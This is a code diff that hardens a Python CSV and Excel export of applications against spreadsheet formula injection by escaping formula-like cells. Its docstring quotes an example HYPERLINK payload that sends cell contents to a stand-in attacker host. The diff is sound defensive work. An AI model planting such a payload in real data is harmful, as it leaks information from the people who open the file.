@@ -1,27 +1,75 @@
-"""Applications as a table: CSV and Excel (openpyxl) bytes with the same rows."""
+"""Applications as a table: CSV and Excel (openpyxl) bytes with the same rows.
+
+Every cell is data, never a formula. Applicants type their own name, and a name such as
+`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would otherwise run when staff open
+the export (CSV or formula injection). CSV cells that a spreadsheet would read as a
+formula get a leading single quote (OWASP's advice); Excel cells are written as text.
+"""
 from __future__ import annotations
 
 import csv
 import io
+import re
+from datetime import UTC, datetime
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
+from openpyxl.worksheet.worksheet import Worksheet
+
+# What spreadsheets take as the start of a formula. Tab and carriage return too: some
+# programs strip leading whitespace and then evaluate what follows.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# A signed number and nothing else ("+77011234567", "-12.5"): a spreadsheet reads it as a
+# constant, so it cannot call anything, and the phone column stays as typed.
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
+
+
+def formula_like(value: str) -> bool:
+    """Would a spreadsheet evaluate this text as a formula?"""
+    return value.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(value) is None
+
+
+def csv_cell(value: object) -> object:
+    """The value as it may go into a CSV cell: text that would be a formula gets a leading
+    quote; numbers (int, float) are left alone, negative ones included."""
+    if isinstance(value, str) and formula_like(value):
+        return "'" + value
+    return value
 
 
 def to_csv(header: list[str], rows: list[list[object]]) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer)
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([csv_cell(v) for v in header])
+    writer.writerows([csv_cell(v) for v in row] for row in rows)
     return buffer.getvalue().encode("utf-8-sig")  # the BOM makes Excel read UTF-8 right
 
 
-def to_xlsx(header: list[str], rows: list[list[object]], title: str) -> bytes:
+def _xlsx_cell(sheet: Worksheet, value: object) -> object:
+    """openpyxl stores any text starting with "=" as a formula: such text (and anything else
+    formula-like) becomes an explicit text cell, marked with Excel's quote prefix so that
+    editing it later does not turn it into a formula either."""
+    if isinstance(value, str) and formula_like(value):
+        cell = Cell(sheet, value=value)
+        cell.data_type = "s"
+        cell.quotePrefix = True
+        return cell
+    return value
+
+
+def to_xlsx(header: list[str], rows: list[list[object]], title: str, created: datetime
+            ) -> bytes:
+    """`created` (the export's time) goes into the file's properties, where openpyxl would
+    otherwise read the system clock (it still stamps `modified` when saving)."""
     book = Workbook()
+    # The properties are written as UTC ("…Z") and must be naive.
+    when = created if created.tzinfo is None else created.astimezone(UTC).replace(tzinfo=None)
+    book.properties.created = when
     sheet = book.active
     sheet.title = title[:31]  # Excel's limit for sheet names
-    sheet.append(header)
+    sheet.append([_xlsx_cell(sheet, v) for v in header])
     for row in rows:
-        sheet.append(row)
+        sheet.append([_xlsx_cell(sheet, v) for v in row])
     sheet.freeze_panes = "A2"
     for column in sheet.columns:
         width = max(len(str(cell.value or "")) for cell in column)
